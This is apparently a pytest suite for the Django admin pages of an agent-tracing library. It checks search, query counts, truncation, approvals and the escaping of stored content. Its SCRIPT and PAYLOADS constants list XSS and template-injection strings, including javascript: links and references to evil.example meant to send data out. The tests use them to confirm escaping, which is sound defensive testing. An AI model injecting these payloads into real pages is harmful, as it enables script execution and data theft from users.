"""The pages of traces."""

import json
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from mlango.agents import Agent, tool
from mlango.agents.providers import ScriptedProvider, ToolCall
from mlango.models import Approval, Session, Span, Trace
from tests.admin.conftest import html_of, make_trace, page_of

User = get_user_model()

pytestmark = pytest.mark.django_db

LIST = "/admin/mlango/trace/"
SCRIPT = "</pre></script><script>alert('x')</script><img src=x onerror=alert(1)>"


def queries_of(client, address):
    with CaptureQueriesContext(connection) as queries:
        html_of(client, address)
    return len(queries)


class TestList:
    def test_finds_a_trace_by_the_beginning_of_its_id(self, viewer):
        make_trace("abcdef12")
        make_trace("bbcdef12")

        for term in ("abcd", "ABCD", " abcdef12-00 ", "abcdef12".ljust(32, "0")):
            html = html_of(viewer, f"{LIST}?q={term}")
            assert "abcdef12" in html
            assert "bbcdef12" not in html

    def test_finds_the_traces_of_a_user_by_his_name(self, viewer):
        ada = User.objects.create_user("ada")
        make_trace("abcdef12", user=ada)
        make_trace("bbcdef12")

        html = html_of(viewer, f"{LIST}?q=ada")

        assert "abcdef12" in html
        assert "bbcdef12" not in html

    @pytest.mark.parametrize("term", ["-", "%25", "_", "nobody", "a%20b", "'"])
    def test_finds_nothing_by_anything_else(self, viewer, term):
        make_trace("abcdef12")

        assert "abcdef12" not in html_of(viewer, f"{LIST}?q={term}").partition("result_list")[2]

    def test_refuses_what_no_database_takes(self, viewer):
        assert "Null characters are not allowed." in html_of(viewer, f"{LIST}?q=%00")

    def test_is_filtered_by_status_and_agent(self, viewer):
        make_trace("abcdef12", status="failed")
        make_trace("bbcdef12", agent="support.Desk")

        failed = html_of(viewer, f"{LIST}?status__exact=failed")
        desk = html_of(viewer, f"{LIST}?agent=support.Desk")

        assert "abcdef12" in failed
        assert "bbcdef12" not in failed
        assert "bbcdef12" in desk
        assert "abcdef12" not in desk

    def test_shows_no_content(self, viewer):
        trace = make_trace(input="canary", output="canary", error="canary")
        trace.opening = {"system": "canary"}
        trace.save()

        assert "canary" not in html_of(viewer, LIST)

    def test_leaves_large_values_in_the_database(self, viewer):
        make_trace(spans=1)

        with CaptureQueriesContext(connection) as queries:
            html_of(viewer, LIST)

        assert '"mlango_trace"."uuid"' in str(queries.captured_queries)
        assert '"mlango_trace"."output"' not in str(queries.captured_queries)

    def test_asks_as_often_for_many_traces_as_for_one(self, viewer):
        ada = User.objects.create_user("ada")
        session = Session.objects.create(agent="shop.Support", key="s1")
        make_trace("aa", user=ada, session=session, session_key="s1")
        one = queries_of(viewer, LIST)
        for number in range(20):
            user = User.objects.create_user(f"ada{number}")
            make_trace(f"bb{number:02}", user=user, session=session, session_key="s1")

        assert queries_of(viewer, LIST) == one

    def test_tells_who_ran_it_after_the_user_is_gone(self, viewer):
        make_trace(owner_key="4711")

        assert "4711" in html_of(viewer, LIST)


class TestPage:
    def test_shows_the_spans_of_a_run_in_order(self, viewer):
        @tool
        def double(number: int) -> int:
            """Double a number."""
            return 2 * number

        class Doubler(Agent):
            class Meta:
                app_label = "support"
                tools = [double]

        model = ScriptedProvider([[ToolCall("", "double", {"number": 21})], "It is 42."])
        run = Doubler().run("Double 21.", provider=model)

        html = html_of(viewer, page_of(run.trace))

        told = ["model call", "&quot;double&quot;", "tool call", "&quot;number&quot;: 21", "It is"]
        places = [html.index(text, html.index('class="head"')) for text in told]
        assert places == sorted(places)
        assert "Double 21." in html
        assert f"{run.usage.total_tokens:,}" in html

    @pytest.mark.parametrize("whole", [True, False])
    def test_tells_that_the_process_of_a_run_died(self, viewer, whole):
        ago = timezone.now() - timedelta(days=1)
        make_trace("bb", status="running", ended_at=None)
        trace = make_trace("aa", status="running", ended_at=None)
        Trace.objects.filter(pk=trace.pk).update(started_at=ago)

        html = html_of(viewer, page_of(trace) if whole else LIST)

        assert html.count('<span class="mlango-status lost">lost</span>') == 1

    def test_shows_what_a_run_waits_for(self, client, staff):
        client.force_login(staff("view_trace", "view_approval"))
        trace = make_trace(status="waiting")
        child = make_trace("bb", status="waiting", parent=trace)
        asked = {"trace": child, "tool": "refund", "arguments_json": '{"text": "<b>hi</b>"}'}
        approval = Approval.objects.create(tool_call_id="c1", **asked)
        Approval.objects.create(tool_call_id="c2", status="used", **asked)

        html = html_of(client, page_of(trace))

        link = f'<a href="{page_of(approval)}">refund {{&quot;text&quot;: &quot;&lt;b&gt;hi'
        assert html.count(link) == html.count("&lt;b&gt;hi") == 1
        assert "<label>tool call:</label>" in html

    def test_leads_nobody_to_approvals_who_may_not_see_them(self, viewer):
        trace = make_trace(status="waiting")
        approval = Approval.objects.create(trace=trace, tool="refund", tool_call_id="c1")

        html = html_of(viewer, page_of(trace))

        assert "refund {}" in html
        assert page_of(approval) not in html

    def test_asks_as_often_for_400_spans_as_for_one(self, viewer):
        one = queries_of(viewer, page_of(make_trace("aa", spans=1)))
        page = page_of(make_trace("bb", spans=400))

        # Two of them are the savepoint of a site with ATOMIC_REQUESTS.
        assert queries_of(viewer, page) == one <= 10
        assert html_of(viewer, page).count('<span class="number">') == 400

    def test_reads_only_the_beginnings_of_large_values(self, viewer):
        page = page_of(make_trace(spans=1))

        with CaptureQueriesContext(connection) as queries:
            html_of(viewer, page)

        assert '("mlango_span"."output_json"' in str(queries.captured_queries)
        assert ', "mlango_span"."output_json"' not in str(queries.captured_queries)

    def test_opens_what_failed(self, viewer):
        trace = make_trace(spans=20)
        trace.spans.filter(ordering=13).update(error="boom", error_type="ValueError")

        html = html_of(viewer, page_of(trace))

        assert html.count("<details open>") == 1
        assert "<em>ValueError</em>" in html
        assert "<pre>boom</pre>" in html

    def test_escapes_whatever_a_model_a_tool_or_a_user_wrote(self, viewer):
        trace = make_trace(
            spans=1,
            agent=SCRIPT,
            stop_reason=SCRIPT[:50],
            owner_key=SCRIPT,
            session_key=SCRIPT,
            provider=SCRIPT,
            model=SCRIPT,
            input=SCRIPT,
            output=SCRIPT,
            error=SCRIPT,
            opening_json=json.dumps({"system": SCRIPT}),
            metadata_json=json.dumps({SCRIPT: SCRIPT}),
        )
        trace.spans.update(
            name=SCRIPT,
            tool_call_id=SCRIPT,
            input_json=json.dumps({SCRIPT: SCRIPT}),
            output_json=json.dumps({"role": "assistant", "content": SCRIPT}),
            attributes_json=json.dumps(SCRIPT),
            error=SCRIPT,
            error_type=SCRIPT,
        )

        for address in (LIST, page_of(trace)):
            html = html_of(viewer, address)
            assert "<script>alert" not in html
            assert "<img src=x" not in html
            assert "&lt;script&gt;alert" in html

    def test_a_key_of_a_session_cannot_leave_its_link(self, viewer):
        session = Session.objects.create(agent=SCRIPT, key=SCRIPT, title=SCRIPT, owner_key=SCRIPT)
        trace = make_trace(session=session, session_key=SCRIPT)

        for address in (page_of(trace), page_of(session), "/admin/mlango/session/"):
            assert "<script>alert" not in html_of(viewer, address)

    def test_cuts_long_values_and_tells_how_much_is_left_out(self, viewer):
        long = "x" * 1_000_000
        trace = make_trace(spans=1, input=long, output=long, error=long)
        trace.opening = {"system": long}
        trace.save()
        trace.spans.update(input_json=json.dumps(long), error=long, output_json=json.dumps(long))

        html = html_of(viewer, page_of(trace))

        assert len(html) < 100_000
        assert "[… 996,000 of 1,000,000 characters left out]" in html
        assert "[… 996,002 of 1,000,002 characters left out]" in html

    def test_shows_rows_that_something_else_wrote(self, viewer):
        trace = make_trace(spans=1, status="odd", metadata_json="{broken", opening_json="[" * 3000)
        trace.spans.update(
            kind="odd",
            parent_ordering=1,
            input_json="{broken",
            output_json=r'"\ud800 \u0000"',
            attributes_json='{"role": "x", "content": 7}',
        )

        assert "{broken" in html_of(viewer, page_of(trace))

    def test_shows_a_run_that_has_just_begun(self, viewer):
        trace = make_trace(status="running", ended_at=None, cost=None)

        assert "This run has recorded nothing yet." in html_of(viewer, page_of(trace))

    def test_leads_to_the_session_and_the_parent(self, viewer):
        session = Session.objects.create(agent="shop.Support", key="s1")
        parent = make_trace("aa")
        trace = make_trace("bb", session=session, session_key="s1", parent=parent)

        html = html_of(viewer, page_of(trace))

        assert f'href="{page_of(session)}"' in html
        assert f'href="{page_of(parent)}"' in html

    def test_holds_no_content_of_a_run_that_captured_none(self, viewer):
        @tool
        def leak(word: str) -> str:
            """Fail with what it was given."""
            raise ValueError(word)

        class Silent(Agent):
            class Meta:
                app_label = "support"
                capture_content = False
                tools = [leak]

        model = ScriptedProvider([[ToolCall("", "leak", {"word": "canary"})], "canary"])
        run = Silent().run("canary", provider=model)

        html = html_of(viewer, page_of(run.trace))

        assert Span.objects.count() == 3
        assert "canary" not in html

    def test_has_no_style_or_script_of_its_own_in_line(self, viewer):
        html = html_of(viewer, page_of(make_trace(spans=3)))
        spans = html[html.index("mlango-spans") : html.index("</ol>")]

        assert "style=" not in spans
        assert "<script" not in spans


def test_a_session_leads_to_its_traces(viewer):
    session = Session.objects.create(agent="shop.Support", key="s1")
    make_trace("abcdef12", session=session)
    make_trace("bbcdef12")
    link = f"{LIST}?session__id__exact={session.pk}"

    assert f'href="{link}"' in html_of(viewer, page_of(session))
    html = html_of(viewer, link)
    assert "abcdef12" in html
    assert "bbcdef12" not in html


PAYLOADS = [
    SCRIPT,
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![x](https://evil.example/?data)",
    "<a href=javascript:alert(1)>x</a><base href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "</textarea></title></style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>",
    "<!-- --><meta http-equiv=refresh content=0;url=//evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ settings.SECRET_KEY }}{% debug %}{0.__class__} %(x)s",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<\0script>alert(1)</script>",
]


class Skeleton(HTMLParser):
    """The elements of a page, with the attributes that can do something."""

    def __init__(self, html):
        super().__init__()
        self.elements = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        acting = [(k, v) for k, v in attrs if k in ("src", "action", "formaction", "style")]
        names = [k for k, _ in attrs]
        self.elements.append((tag, names, acting))
        targets = [v or "" for k, v in attrs if k == "href"]
        assert all(target.startswith(("/", "?", "#")) or "." in target for target in targets)
        assert not any("script:" in target or "evil" in target for target in targets)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_whatever_was_written_a_page_has_the_same_elements(viewer, payload):
    def page(text, uuid):
        trace = make_trace(uuid, spans=2, input=text, output=text, error=text, status="failed")
        trace.opening_json = json.dumps({"system": text})
        trace.metadata_json = json.dumps({text: text})
        trace.save()
        written = json.dumps({"role": "assistant", "content": text})
        trace.spans.update(name=text[:100], error=text, error_type="E", output_json=written)
        return Skeleton(html_of(viewer, page_of(trace))).elements

    payload = payload.replace("\0", "␀")
    assert page(payload, "aa") == page("x" * len(payload), "bb")
